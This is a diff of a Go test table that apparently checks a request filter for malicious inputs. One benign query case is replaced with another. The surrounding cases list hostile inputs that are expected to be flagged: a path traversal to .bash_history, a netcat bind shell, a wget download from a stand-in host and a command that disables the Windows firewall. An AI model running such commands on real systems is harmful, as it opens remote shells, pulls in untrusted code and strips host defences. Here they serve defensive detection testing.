@@ -316,7 +316,7 @@ func TestRound2CodeAndShell(t *testing.T) {
 		{"query:q", "is http://example.org/faq.html? the right page", false},
 		{"body:text", "Use the $where operator sparingly in MongoDB.", false},
 		{"query:file", "../../.bash_history", true},
-		{"query:q", ".htaccess rewrite rules", false},
+		{"query:q", "how to clear the shell history", false},
 		{"query:q", "nc -nlvp 9001 -e /bin/bash", true},
 		{"query:q", `zsh -c "wget http://x.example/a.sh"`, true},
 		{"query:q", "| netsh advfirewall set allprofiles state off", true},
